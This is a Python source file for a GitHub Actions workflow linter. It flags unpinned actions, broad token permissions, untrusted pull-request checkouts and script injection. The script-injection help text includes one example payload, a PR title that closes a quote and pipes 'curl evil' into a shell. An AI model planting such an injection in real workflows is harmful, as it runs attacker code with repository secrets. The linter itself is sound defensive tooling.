"""Lint GitHub Actions workflow files: each finding with file, line and column.

Pure: `lint_workflow(text, path)` takes the YAML text and the path to report, returns
frozen findings. Positions come from PyYAML's compose API (every node has a start mark),
so `on:` is just a key here, never the boolean PyYAML's loader would make of it.

Rules (ids are stable; they are the SARIF rule ids too):
  missing-timeout            job without `timeout-minutes` (the default is 6 hours)
  missing-concurrency        pull_request workflow without a `concurrency` group
  unpinned-action            `uses:` not pinned to a full 40-hex commit SHA
  pin-version-comment        SHA pin without a `# vX.Y.Z` comment saying what it is
  missing-permissions        no top-level `permissions` (the token gets the repo default)
  excessive-permissions      write-all, workflow-level writes, writes no step can use
  missing-cache              setup-python / setup-node without dependency caching
  untrusted-checkout         pull_request_target / workflow_run checking out the PR head
  script-injection           attacker-controlled `${{ }}` expanded inside a script
  checkout-persist-credentials  actions/checkout leaving the token in .git/config

A finding is silenced by `# contexten-lint: ignore[rule-id]` on its line.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

import yaml
from yaml.nodes import MappingNode, Node, ScalarNode, SequenceNode

from contexten.analysis.sarif import SarifRule, Severity

MAX_WORKFLOW_BYTES = 1024 * 1024
MAX_STEPS = 5000


class WorkflowParseError(ValueError):
    """The text is not a readable GitHub Actions workflow; the message is one line."""


@dataclass(frozen=True, slots=True)
class WorkflowFinding:
    rule: str
    path: str
    line: int
    column: int
    message: str
    severity: Severity
    fix: str = ""

    def format(self) -> str:
        return f"{self.path}:{self.line}:{self.column}: {self.rule}: {self.message}"


RULES: dict[str, SarifRule] = {
    rule.id: rule
    for rule in (
        SarifRule(
            "missing-timeout",
            "MissingTimeout",
            "Job without timeout-minutes",
            "low",
            "A job without timeout-minutes can hang for 6 hours; set a bound near its usual "
            "duration.",
            tags=("ci", "reliability"),
        ),
        SarifRule(
            "missing-concurrency",
            "MissingConcurrency",
            "Pull-request workflow without a concurrency group",
            "low",
            "Add `concurrency: {group: ${{ github.workflow }}-${{ github.ref }}, "
            "cancel-in-progress: true}` so a new push cancels the superseded run.",
            tags=("ci", "efficiency"),
        ),
        SarifRule(
            "unpinned-action",
            "UnpinnedAction",
            "Action not pinned to a full commit SHA",
            "medium",
            "Tags and branches can be moved to other code; pin `uses:` to a 40-hex commit SHA "
            "with the version in a comment (`@<sha> # v4.2.2`).",
            tags=("security", "supply-chain"),
        ),
        SarifRule(
            "pin-version-comment",
            "PinVersionComment",
            "SHA pin without a version comment",
            "low",
            "Say which release a SHA is (`# v4.2.2`) so people and update bots can read it.",
            tags=("maintainability",),
        ),
        SarifRule(
            "missing-permissions",
            "MissingPermissions",
            "No top-level permissions",
            "medium",
            "Without `permissions` the GITHUB_TOKEN gets the repository default, often write to "
            "everything; set `permissions: {}` at the top and grant scopes per job.",
            tags=("security",),
        ),
        SarifRule(
            "excessive-permissions",
            "ExcessivePermissions",
            "Over-broad GITHUB_TOKEN permissions",
            "medium",
            "Grant the fewest scopes, in the jobs that need them, never write-all.",
            tags=("security",),
        ),
        SarifRule(
            "missing-cache",
            "MissingCache",
            "setup-python / setup-node without dependency caching",
            "low",
            "Set `cache: pip` (or npm, yarn, pnpm, poetry) so dependencies are not downloaded "
            "again on every run.",
            tags=("ci", "efficiency"),
        ),
        SarifRule(
            "untrusted-checkout",
            "UntrustedCheckout",
            "Privileged trigger checks out pull request code",
            "high",
            "pull_request_target and workflow_run run with secrets and a write token; checking "
            "out the PR head runs the attacker's code with them. Use pull_request instead.",
            tags=("security",),
        ),
        SarifRule(
            "script-injection",
            "ScriptInjection",
            "Attacker-controlled expression expanded in a script",
            "high",
            "`${{ }}` is pasted into the script before the shell runs, so a PR title like "
            '`"; curl evil | sh #` becomes code. Pass the value through `env:` and use "$VAR".',
            tags=("security",),
        ),
        SarifRule(
            "checkout-persist-credentials",
            "CheckoutPersistCredentials",
            "actions/checkout persists the token in .git/config",
            "medium",
            "Set `persist-credentials: false` so later steps and uploaded artifacts cannot read "
            "the token.",
            tags=("security",),
        ),
    )
}

_SHA_RE = re.compile(r"^[0-9a-f]{40}$")
_EXPR_RE = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_CONTEXT_RE = re.compile(
    r"\bgithub\s*\.\s*(?:head_ref\b|event\b(?:\s*\.\s*[A-Za-z_][\w\-]*|\s*\.\s*\*|\s*\[[^\]]*\])*)"
)
_IGNORE_RE = re.compile(r"#\s*contexten-lint:\s*ignore\[([^\]]*)\]")
_VERSION_COMMENT_RE = re.compile(r"#\s*\S*v?\d+(\.\d+)*")
# Fields of github.event a pull request author, commenter or pusher writes freely.
_UNTRUSTED_FIELD_RE = re.compile(
    r"(?:^|\.)(?:title|body|message|head_branch|page_name|default_branch|label|"
    r"head\.ref|author\.(?:name|email)|committer\.(?:name|email)|pusher\.(?:name|email))$"
)
# Fields that are numbers, hashes, ids, enums or GitHub-validated names.
_SAFE_FIELD_RE = re.compile(
    r"(?:^|[._])(?:number|id|node_id|sha|before|after|action|merged|draft|state|size|"
    r"created_at|updated_at|closed_at|merged_at|login|full_name|private|fork|"
    r"html_url|url|forced|deleted|created|run_id|run_number|run_attempt|"
    r"conclusion|status|event|workflow_id|check_suite_id|additions|deletions|"
    r"changed_files|comments|base\.ref|repository\.name|owner\.name)$"
)
_TOKEN_RE = re.compile(r"github\.token|secrets\.GITHUB_TOKEN|\bGH_TOKEN\b|\bGITHUB_TOKEN\b")
_TOKEN_CLI_RE = re.compile(r"\bgit\s+push\b|\bgh\s+\w|api\.github\.com")
# Actions that never use the job's token beyond reading the repository.
_TOKENLESS_ACTIONS = frozenset(
    {
        "actions/checkout",
        "actions/setup-python",
        "actions/setup-node",
        "actions/setup-go",
        "actions/setup-java",
        "actions/setup-dotnet",
        "actions/cache",
        "actions/upload-artifact",
        "actions/download-artifact",
    }
)
_CACHE_ACTIONS = frozenset({"actions/cache", "actions/cache/restore"})
_FIRST_PARTY_OWNERS = frozenset({"actions", "github"})


# ----- small YAML node helpers -----


def _get(node: Node | None, key: str) -> Node | None:
    if not isinstance(node, MappingNode):
        return None
    for key_node, value_node in node.value:
        if isinstance(key_node, ScalarNode) and key_node.value == key:
            return value_node
    return None


def _key(node: Node | None, key: str) -> Node | None:
    if not isinstance(node, MappingNode):
        return None
    for key_node, _ in node.value:
        if isinstance(key_node, ScalarNode) and key_node.value == key:
            return key_node
    return None


def _items(node: Node | None) -> Iterator[tuple[ScalarNode, Node]]:
    if isinstance(node, MappingNode):
        for key_node, value_node in node.value:
            if isinstance(key_node, ScalarNode):
                yield key_node, value_node


def _text(node: Node | None) -> str | None:
    return node.value if isinstance(node, ScalarNode) else None


def _pos(node: Node) -> tuple[int, int]:
    return node.start_mark.line + 1, node.start_mark.column + 1


def _scalars(node: Node | None, limit: int = 2000) -> Iterator[ScalarNode]:
    """Scalars under `node`, breadth-first, at most `limit` (aliases may repeat nodes)."""
    queue: list[Node] = [node] if node is not None else []
    seen = 0
    while queue and seen < limit:
        current = queue.pop(0)
        seen += 1
        if isinstance(current, ScalarNode):
            yield current
        elif isinstance(current, SequenceNode):
            queue.extend(current.value)
        elif isinstance(current, MappingNode):
            for key_node, value_node in current.value:
                queue.extend((key_node, value_node))


# ----- parsing -----


@dataclass(frozen=True, slots=True)
class _Step:
    node: MappingNode
    uses: str | None
    uses_node: Node | None
    action: str | None  # owner/repo[/path] without the ref, lower-cased


@dataclass(frozen=True, slots=True)
class _Job:
    name: str
    key: ScalarNode
    node: MappingNode
    steps: tuple[_Step, ...]


def _compose(text: str, path: str) -> MappingNode:
    if len(text.encode("utf-8", errors="replace")) > MAX_WORKFLOW_BYTES:
        raise WorkflowParseError(f"{path}: workflow larger than {MAX_WORKFLOW_BYTES} bytes")
    try:
        root = yaml.compose(text, Loader=yaml.SafeLoader)
    except yaml.MarkedYAMLError as exc:
        mark = exc.problem_mark or exc.context_mark
        where = f"{path}:{mark.line + 1}:{mark.column + 1}" if mark else path
        raise WorkflowParseError(f"{where}: invalid YAML: {exc.problem or exc}") from None
    except yaml.YAMLError as exc:
        raise WorkflowParseError(f"{path}: invalid YAML: {exc}") from None
    except RecursionError:
        raise WorkflowParseError(f"{path}: YAML nested too deeply to be a workflow") from None
    if not isinstance(root, MappingNode):
        raise WorkflowParseError(
            f"{path}: not a GitHub Actions workflow: expected a mapping with 'on' and 'jobs'"
        )
    if _get(root, "jobs") is None or (_get(root, "on") is None and _get(root, "true") is None):
        raise WorkflowParseError(
            f"{path}: not a GitHub Actions workflow: expected top-level 'on' and 'jobs' keys"
        )
    if not isinstance(_get(root, "jobs"), MappingNode):
        raise WorkflowParseError(f"{path}: 'jobs' must be a mapping of job ids to jobs")
    return root


def _action_of(uses: str) -> str | None:
    if uses.startswith(("./", "docker://")):
        return None
    return uses.split("@", 1)[0].lower()


def _jobs(root: MappingNode) -> tuple[_Job, ...]:
    jobs: list[_Job] = []
    total = 0
    for key_node, job_node in _items(_get(root, "jobs")):
        if not isinstance(job_node, MappingNode):
            continue
        steps: list[_Step] = []
        steps_node = _get(job_node, "steps")
        if isinstance(steps_node, SequenceNode):
            for step_node in steps_node.value:
                total += 1
                if total > MAX_STEPS:
                    raise WorkflowParseError(f"more than {MAX_STEPS} steps")
                if not isinstance(step_node, MappingNode):
                    continue
                uses_node = _get(step_node, "uses")
                uses = _text(uses_node)
                steps.append(_Step(step_node, uses, uses_node, _action_of(uses) if uses else None))
        jobs.append(_Job(key_node.value, key_node, job_node, tuple(steps)))
    return tuple(jobs)


def _triggers(root: MappingNode) -> dict[str, Node | None]:
    on = _get(root, "on")
    if on is None:
        on = _get(root, "true")
    if isinstance(on, ScalarNode):
        return {on.value: None}
    if isinstance(on, SequenceNode):
        return {item.value: None for item in on.value if isinstance(item, ScalarNode)}
    return {key.value: value for key, value in _items(on)}


def _on_key(root: MappingNode) -> Node:
    return _key(root, "on") or _key(root, "true") or root


# ----- the linter -----


class _Linter:
    def __init__(self, text: str, path: str) -> None:
        self.text = text
        self.lines = text.splitlines()
        self.path = path
        self.root = _compose(text, path)
        self.jobs = _jobs(self.root)
        self.triggers = _triggers(self.root)
        self.findings: list[WorkflowFinding] = []

    def add(self, rule: str, node: Node, message: str, severity: Severity | None = None) -> None:
        line, column = _pos(node)
        self.add_at(rule, line, column, message, severity)

    def add_at(
        self, rule: str, line: int, column: int, message: str, severity: Severity | None = None
    ) -> None:
        spec = RULES[rule]
        source_line = self.lines[line - 1] if 0 < line <= len(self.lines) else ""
        ignored = _IGNORE_RE.search(source_line)
        if ignored and rule in {part.strip() for part in ignored.group(1).split(",")}:
            return
        self.findings.append(
            WorkflowFinding(
                rule, self.path, line, column, message, severity or spec.severity, spec.help_text
            )
        )

    def run(self) -> tuple[WorkflowFinding, ...]:
        self.check_permissions()
        self.check_concurrency()
        for job in self.jobs:
            self.check_timeout(job)
            self.check_job_uses(job)
            self.check_job_permissions(job)
            self.check_cache(job)
            self.check_untrusted_checkout(job)
            for step in job.steps:
                self.check_uses(step.uses_node)
                self.check_persist_credentials(step)
                self.check_injection(step)
        unique = sorted(set(self.findings), key=lambda f: (f.line, f.column, f.rule, f.message))
        return tuple(unique)

    # --- timeouts and concurrency ---

    def check_timeout(self, job: _Job) -> None:
        if _get(job.node, "uses") is not None:
            return  # a reusable-workflow call cannot take timeout-minutes
        if _get(job.node, "timeout-minutes") is None:
            self.add(
                "missing-timeout",
                job.key,
                f"job '{job.name}' has no timeout-minutes (default 360 minutes)",
            )

    def check_concurrency(self) -> None:
        pr_triggers = [t for t in ("pull_request", "pull_request_target") if t in self.triggers]
        if not pr_triggers or _get(self.root, "concurrency") is not None:
            return
        if self.jobs and all(_get(job.node, "concurrency") is not None for job in self.jobs):
            return
        self.add(
            "missing-concurrency",
            _on_key(self.root),
            f"triggered by {pr_triggers[0]} but has no concurrency group; superseded runs "
            "keep running",
        )

    # --- pinning ---

    def check_job_uses(self, job: _Job) -> None:
        self.check_uses(_get(job.node, "uses"))

    def check_uses(self, uses_node: Node | None) -> None:
        uses = _text(uses_node)
        if uses is None or uses_node is None or uses.startswith("./"):
            return
        if uses.startswith("docker://"):
            if "@sha256:" not in uses:
                self.add(
                    "unpinned-action",
                    uses_node,
                    f"'{uses}' is not pinned to an image digest (@sha256:...)",
                )
            return
        name, _, ref = uses.partition("@")
        owner = name.split("/", 1)[0].lower()
        if not ref:
            self.add("unpinned-action", uses_node, f"'{uses}' has no ref at all", "high")
            return
        if _SHA_RE.match(ref):
            line, _ = _pos(uses_node)
            rest = self.lines[line - 1] if line <= len(self.lines) else ""
            comment = rest[rest.find(ref) + len(ref) :] if ref in rest else ""
            if not _VERSION_COMMENT_RE.search(comment):
                self.add(
                    "pin-version-comment",
                    uses_node,
                    f"'{name}' is pinned to a SHA without a version comment (# vX.Y.Z)",
                )
            return
        if owner in _FIRST_PARTY_OWNERS:
            self.add(
                "unpinned-action",
                uses_node,
                f"'{uses}' (GitHub-owned) uses the movable ref '{ref}'; pin a commit SHA",
                "low",
            )
        else:
            self.add(
                "unpinned-action",
                uses_node,
                f"third-party action '{uses}' uses the movable ref '{ref}'; pin a commit SHA",
            )

    # --- permissions ---

    def check_permissions(self) -> None:
        top = _get(self.root, "permissions")
        if top is None:
            uncovered = [job.name for job in self.jobs if _get(job.node, "permissions") is None]
            if uncovered:
                first_key = self.root.value[0][0] if self.root.value else self.root
                self.add(
                    "missing-permissions",
                    first_key,
                    "no top-level permissions: job(s) "
                    + ", ".join(f"'{name}'" for name in uncovered[:5])
                    + " get the repository's default token permissions; set "
                    "`permissions: {}` and grant scopes per job",
                )
            return
        value = _text(top)
        if value == "write-all":
            self.add("excessive-permissions", top, "workflow grants write-all to every job", "high")
        elif value == "read-all":
            self.add(
                "excessive-permissions",
                top,
                "workflow grants read-all; list only the scopes the jobs read",
                "low",
            )
        for scope_key, scope_value in _items(top):
            if _text(scope_value) == "write":
                self.add(
                    "excessive-permissions",
                    scope_key,
                    f"workflow-level '{scope_key.value}: write' applies to every job; grant it "
                    "only in the jobs that need it",
                )

    def check_job_permissions(self, job: _Job) -> None:
        perms = _get(job.node, "permissions")
        if perms is None:
            return
        if _text(perms) == "write-all":
            self.add("excessive-permissions", perms, f"job '{job.name}' grants write-all", "high")
            return
        writes = [key for key, value in _items(perms) if _text(value) == "write"]
        if not writes or not self._job_cannot_use_token(job):
            return
        for key in writes:
            self.add(
                "excessive-permissions",
                key,
                f"job '{job.name}' grants '{key.value}: write' but none of its steps uses "
                "the token",
            )

    def _job_cannot_use_token(self, job: _Job) -> bool:
        if _get(job.node, "uses") is not None or not job.steps:
            return False
        for step in job.steps:
            if step.action is not None and step.action not in _TOKENLESS_ACTIONS:
                return False
            if step.uses and step.action is None:
                return False  # a local or Docker action may use the token
            for scalar in _scalars(step.node):
                if _TOKEN_RE.search(scalar.value) or _TOKEN_CLI_RE.search(scalar.value):
                    return False
        job_env = _get(job.node, "env")
        return not any(_TOKEN_RE.search(s.value) for s in _scalars(job_env))

    # --- caching ---

    def check_cache(self, job: _Job) -> None:
        if self._release_only():
            return  # caches in release workflows invite cache poisoning; do not advise them
        if any(step.action in _CACHE_ACTIONS for step in job.steps):
            return
        for step in job.steps:
            if step.action not in ("actions/setup-python", "actions/setup-node"):
                continue
            cache = _text(_get(_get(step.node, "with"), "cache"))
            if not cache:
                tool = "pip" if step.action == "actions/setup-python" else "npm"
                self.add(
                    "missing-cache",
                    step.uses_node or step.node,
                    f"{step.action} without dependency caching; add `cache: {tool}` "
                    "(and cache-dependency-path if needed)",
                )

    def _release_only(self) -> bool:
        if not self.triggers:
            return False
        for name, value in self.triggers.items():
            if name == "release":
                continue
            if (
                name == "push"
                and _get(value, "tags") is not None
                and _get(value, "branches") is None
            ):
                continue
            return False
        return True

    # --- privileged triggers ---

    def check_untrusted_checkout(self, job: _Job) -> None:
        privileged = [t for t in ("pull_request_target", "workflow_run") if t in self.triggers]
        if not privileged:
            return
        head = re.compile(
            r"github\.event\.pull_request\.head\.|github\.head_ref|refs/pull/|"
            r"github\.event\.workflow_run\.head_(?:sha|branch|repository)|"
            r"github\.event\.workflow_run\.pull_requests"
        )
        for step in job.steps:
            if step.action == "actions/checkout":
                with_node = _get(step.node, "with")
                for field_name in ("ref", "repository"):
                    value_node = _get(with_node, field_name)
                    value = _text(value_node)
                    if value_node is not None and value is not None and head.search(value):
                        self.add(
                            "untrusted-checkout",
                            value_node,
                            f"{privileged[0]} workflow checks out the pull request head "
                            f"({field_name}: {value.strip()}) with a privileged token",
                        )
            run_node = _get(step.node, "run")
            run = _text(run_node)
            if (
                run_node is not None
                and run
                and re.search(r"\bgh\s+pr\s+checkout\b|git\s+fetch\s+\S+\s+(?:\+?refs/)?pull/", run)
            ):
                self.add(
                    "untrusted-checkout",
                    run_node,
                    f"{privileged[0]} workflow fetches the pull request head in a script",
                )

    # --- checkout credentials ---

    def check_persist_credentials(self, step: _Step) -> None:
        if step.action != "actions/checkout" or step.uses_node is None:
            return
        value = _text(_get(_get(step.node, "with"), "persist-credentials"))
        if value is not None and (value.strip().lower() == "false" or "${{" in value):
            return
        self.add(
            "checkout-persist-credentials",
            step.uses_node,
            "actions/checkout keeps the token in .git/config for every later step; set "
            "`persist-credentials: false`",
        )

    # --- script injection ---

    def check_injection(self, step: _Step) -> None:
        targets: list[Node] = []
        run_node = _get(step.node, "run")
        if isinstance(run_node, ScalarNode):
            targets.append(run_node)
        if step.action == "actions/github-script":
            script_node = _get(_get(step.node, "with"), "script")
            if isinstance(script_node, ScalarNode):
                targets.append(script_node)
        for node in targets:
            raw = self.text[node.start_mark.index : node.end_mark.index]
            for match in _EXPR_RE.finditer(raw):
                for context in _CONTEXT_RE.finditer(match.group(1)):
                    verdict = _classify_context(context.group(0))
                    if verdict is None:
                        continue
                    before = raw[: match.start()]
                    line = node.start_mark.line + 1 + before.count("\n")
                    if "\n" in before:
                        column = match.start() - before.rfind("\n")
                    else:
                        column = node.start_mark.column + 1 + match.start()
                    expr = " ".join(match.group(0).split())
                    severity, why = verdict
                    self.add_at(
                        "script-injection",
                        line,
                        column,
                        f"{expr} is {why} and is expanded into the script; pass it through "
                        'env: and quote "$VAR"',
                        severity,
                    )


def _classify_context(reference: str) -> tuple[Severity, str] | None:
    """(severity, why) for an attacker-controllable context, None when it is safe."""
    path = re.sub(r"\s+", "", reference)
    path = re.sub(r"\[[^\]]*\]", ".*", path)
    if path == "github.head_ref":
        return "high", "the pull request's branch name (attacker-controlled)"
    field_path = path.removeprefix("github.event").lstrip(".")
    if not field_path:
        return "medium", "the whole event payload (partly attacker-controlled)"
    if _UNTRUSTED_FIELD_RE.search(field_path):
        return "high", f"github.event.{field_path} (attacker-controlled)"
    if _SAFE_FIELD_RE.search(field_path):
        return None
    return "medium", f"github.event.{field_path} (possibly attacker-controlled)"


def lint_workflow(text: str, path: str) -> tuple[WorkflowFinding, ...]:
    """Findings for one workflow file's text; WorkflowParseError when it is not a workflow."""
    return _Linter(text, path).run()


def is_workflow_path(name: str) -> bool:
    return name.endswith((".yml", ".yaml"))
